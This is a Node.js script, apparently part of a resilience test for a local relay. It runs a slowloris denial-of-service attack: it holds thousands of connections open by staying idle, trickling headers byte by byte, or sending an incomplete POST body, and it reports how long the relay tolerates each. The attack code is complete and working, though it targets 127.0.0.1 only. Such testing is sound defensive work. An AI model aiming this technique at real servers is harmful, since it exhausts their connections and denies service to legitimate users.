/**
 * One attacker process of slowloris.mjs: holds `count` TCP connections to the
 * relay, spread over several local addresses (so a few thousand of them do
 * not exhaust one address's ephemeral ports), either idle (`mode: idle`,
 * nothing sent), sending a request head one byte every `byteEveryMs`
 * without ever finishing it (`mode: trickle`), or sending a `POST /` that
 * declares a 128 KiB body and all of it but its last byte (`mode: partial`,
 * no credential, or `key` for an account's). A connection the relay closes
 * is reopened until `seconds` are up. Prints one JSON line: connections
 * opened, how they ended, and how long the relay let them live.
 *
 *   node slowloris-attacker.mjs '{"port":8080,"mode":"idle","count":10000,"seconds":20,"addrs":["127.0.1.1"],"byteEveryMs":1000}'
 */
import net from 'node:net';

const { port, mode, count, seconds, addrs, byteEveryMs = 1000, key = null } = JSON.parse(process.argv[2]);
/** Connects in flight at once: opening 10k at the same instant would only measure our own SYN queue. */
const MAX_CONNECTING = 256;
/** A connect still pending after this counts as refused by a full backlog (SYNs unanswered). */
const CONNECT_TIMEOUT_MS = 5000;
/** What a trickling client sends, byte by byte: a request head that never ends. */
const HEAD = 'GET /ping HTTP/1.1\r\nHost: relay\r\n' + 'X-Slow: a\r\n'.repeat(1000);
/** What a partial-body client sends at once: all of a declared 128 KiB body but the last byte. */
const PARTIAL = Buffer.concat([
  Buffer.from(`POST / HTTP/1.1\r\nHost: relay\r\nContent-Type: application/json\r\n${key ? `Authorization: Bearer ${key}\r\n` : ''}Content-Length: 131072\r\n\r\n`),
  Buffer.alloc(131_071, 0x20),
]);

const end = Date.now() + seconds * 1000;
const stats = { opened: 0, connect_errors: {}, connect_timeouts: 0, closed_by_relay: 0, lifetimes_ms: [], open_at_end: 0, max_open: 0 };
const live = new Set();
let connecting = 0;
let next = 0;
let stopping = false;

function open() {
  connecting++;
  const localAddress = addrs[next++ % addrs.length];
  const s = net.connect({ port, host: '127.0.0.1', localAddress });
  let connectedAt = 0;
  let timer = null;
  let pos = 0;
  const ct = setTimeout(() => {
    stats.connect_timeouts++;
    s.destroy();
  }, CONNECT_TIMEOUT_MS);
  s.once('connect', () => {
    clearTimeout(ct);
    connecting--;
    connectedAt = Date.now();
    stats.opened++;
    live.add(s);
    if (live.size > stats.max_open) stats.max_open = live.size;
    if (mode === 'partial') s.write(PARTIAL);
    if (mode === 'trickle') {
      timer = setInterval(() => {
        if (!s.destroyed) s.write(HEAD[pos++ % HEAD.length]);
      }, byteEveryMs);
    }
  });
  s.on('error', (e) => {
    if (!connectedAt) stats.connect_errors[e.code] = (stats.connect_errors[e.code] ?? 0) + 1;
  });
  s.on('close', () => {
    clearTimeout(ct);
    if (timer) clearInterval(timer);
    if (!connectedAt) connecting--;
    else if (live.delete(s) && !stopping) {
      stats.closed_by_relay++;
      stats.lifetimes_ms.push(Date.now() - connectedAt);
    }
  });
}

// Keep `count` connections open (or opening) until the end.
while (Date.now() < end) {
  while (live.size + connecting < count && connecting < MAX_CONNECTING && Date.now() < end) open();
  await new Promise((r) => setTimeout(r, 5));
}
stopping = true;
stats.open_at_end = live.size;
for (const s of live) s.destroy();
const l = stats.lifetimes_ms.sort((a, b) => a - b);
const pct = (p) => (l.length ? l[Math.min(l.length - 1, Math.ceil((p / 100) * l.length) - 1)] : null);
stats.lifetime_ms = { n: l.length, min: l[0] ?? null, p50: pct(50), p99: pct(99), max: l.at(-1) ?? null };
delete stats.lifetimes_ms;
process.stdout.write(JSON.stringify(stats) + '\n');
process.exit(0);
